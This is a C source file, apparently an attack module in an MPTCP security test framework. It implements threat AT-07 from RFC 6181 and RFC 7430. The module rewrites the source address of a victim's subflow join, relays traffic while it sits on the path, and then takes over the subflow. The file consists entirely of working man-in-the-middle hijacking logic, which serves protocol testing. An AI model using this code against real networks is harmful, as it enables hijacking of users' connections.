/* SPDX-License-Identifier: MIT */
/*
 * AT-07: the source of a join is changed to an address of the attacker's, RFC
 * 6181 section 6.3, RFC 7430 section 6, as a NAT would. MACs cover no address.
 * While it is on the path it relays; when it has left, the subflow is its own.
 */
#include "atk_inside.h"
#include "atk_opts.h"
#include "atk_table.h"
#include "mpx_seq.h"
#include "mpx_tcp.h"

#include <string.h>

enum { RELAYS_MAX = 8 };

struct relay {
    unsigned tap;
    struct atk_ends ends; /* of the victim's segments, as they were */
    struct atk_inside in;
    bool mapped; /* a mapping of the server's was seen */
};
struct state {
    struct relay v[RELAYS_MAX];
    unsigned n;
};

static struct relay *find_relay(struct state *st, const struct atk_segment *s)
{
    struct atk_ends e = atk_ends_of(s);

    for (unsigned i = 0; i < st->n; i++)
        if (atk_ends_equal(&st->v[i].ends, &e))
            return &st->v[i];
    return NULL;
}

static struct relay *add_relay(struct atk *a, struct state *st,
                               const struct atk_segment *s)
{
    const struct atk_config *cfg = atk_config(a);
    struct relay *r = &st->v[st->n];
    struct atk_flow f = {
        .family = s->family, .local_port = s->sport, .remote_port = s->dport};
    bool v4 = s->family == 4;

    if (!atk_has_room(a, st->n, RELAYS_MAX))
        return NULL;
    st->n++;
    r->tap = s->tap;
    r->ends = atk_ends_of(s);
    memcpy(f.local, v4 ? cfg->host4 : cfg->host6, v4 ? 4 : 16);
    memcpy(f.remote, r->ends.dst, sizeof f.remote);
    atk_tcp_open(&r->in.tcp, a, &f);
    r->in.tcp.iss = mpx_get32(s->tcp + MPX_TCP_OFF_SEQ);
    return r;
}

/* The segment goes on from our address. What the victim sent is what we shall
 * have sent. */
static void relay_segment(struct atk *a, struct relay *r,
                          const struct atk_segment *s, uint64_t now)
{
    struct atk_ends e = r->ends;
    struct mpx_tcp h;
    uint8_t pkt[ATK_PACKET_MAX];
    size_t hdr_len = (size_t)(s->payload - s->tcp), len;
    uint32_t end;

    if (mpx_tcp_parse(&h, s->tcp, hdr_len) != MPX_OK)
        return;
    end = h.seq + (uint32_t)s->payload_len + (h.flags & MPX_TCP_SYN ? 1 : 0);
    if (h.flags & MPX_TCP_SYN || mpx_seq_lt(r->in.tcp.snd_nxt, end))
        r->in.tcp.snd_nxt = end;
    r->in.tcp.stamps = h.ts != NULL;
    if (h.ts)
        r->in.tcp.tsval = mpx_get32(h.ts + 2);
    memcpy(e.src, r->in.tcp.flow.local, sizeof e.src);
    len = atk_packet_make(pkt, &e, s->tcp, hdr_len, s->payload, s->payload_len);
    if (len)
        atk_replace(a, s, pkt, len, now);
}

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    struct state *st = state;
    struct relay *r = s->dir == 0 ? find_relay(st, s) : NULL;
    struct mpx_opt o;

    if (!r && s->dir == 0 && mpx_seg_kind_of(s->flags) == MPX_SEG_SYN &&
        atk_opts_find(s, MPX_SUB_JOIN, &o))
        r = add_relay(a, st, s);
    if (r)
        relay_segment(a, r, s, now);
    return ATK_PASS;
}

/* ---- what the server sends us ---- */

static void relay_back(struct atk *a, struct relay *r, const uint8_t *hdr,
                       uint8_t hdr_len, const uint8_t *payload, size_t len,
                       uint64_t now)
{
    struct atk_ends e = atk_ends_swapped(&r->ends);
    uint8_t pkt[ATK_PACKET_MAX];
    size_t n = atk_packet_make(pkt, &e, hdr, hdr_len, payload, len);

    if (n)
        atk_wire_send(a, r->tap, 1, pkt, n, now);
}

/* What comes while we relay is the victim's; from where it is then, ours. */
static void note_position(struct relay *r, const uint8_t *hdr, uint8_t hdr_len,
                          size_t len)
{
    struct mpx_opt_walk w =
        mpx_opt_walk_of(hdr + MPX_TCP_HDR_MIN, hdr_len - MPX_TCP_HDR_MIN);
    struct mpx_opt o;
    const uint8_t *p;
    size_t n;

    if (hdr[MPX_TCP_OFF_FLAGS] & MPX_TCP_SYN) {
        r->in.tcp.irs = mpx_get32(hdr + MPX_TCP_OFF_SEQ);
        r->in.tcp.rcv_end = 1;
        return;
    }
    atk_tcp_on_segment(&r->in.tcp, hdr, len);
    while (mpx_opt_walk_next(&w, &p, &n))
        if (p[0] == MPX_OPT_KIND &&
            mpx_opt_decode(&o, p, n, MPX_SEG_ACK) == MPX_OK &&
            o.subtype == MPX_SUB_DSS && o.u.dss.has_map && o.u.dss.dsn8) {
            r->in.dack = o.u.dss.dsn + o.u.dss.dll;
            r->mapped = true;
        }
}

static void on_host_segment(struct atk *a, void *state,
                            const struct atk_arrival *seg, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->n; i++) {
        struct relay *r = &st->v[i];

        if (!atk_tcp_matches(&r->in.tcp, seg->flow))
            continue;
        if (now < atk_config(a)->leaves) {
            note_position(r, seg->hdr, seg->hdr_len, seg->len);
            relay_back(a, r, seg->hdr, seg->hdr_len, seg->payload, seg->len,
                       now);
        } else if (r->mapped && mpx_seg_kind_of(seg->hdr[MPX_TCP_OFF_FLAGS]) ==
                                    MPX_SEG_ACK) {
            atk_inside_take_segment(a, &r->in, seg->hdr, seg->hdr_len, seg->len,
                                    now);
        }
    }
}

static void free_state(void *state)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->n; i++)
        atk_tcp_free(&st->v[i].in.tcp);
}

const struct atk_ops atk_join_substitute = {
    .name = "join-source-substitution",
    .id = "AT-07",
    .does = "changes the source of a join to its own address, and relays until "
            "it leaves",
    .source = "RFC 7430 section 6; RFC 6181 section 6.3",
    .powers = ATK_READ | ATK_CHANGE | ATK_INJECT | ATK_HOST,
    .state_size = sizeof(struct state),
    .on_segment = on_segment,
    .on_host_segment = on_host_segment,
    .free_state = free_state,
};
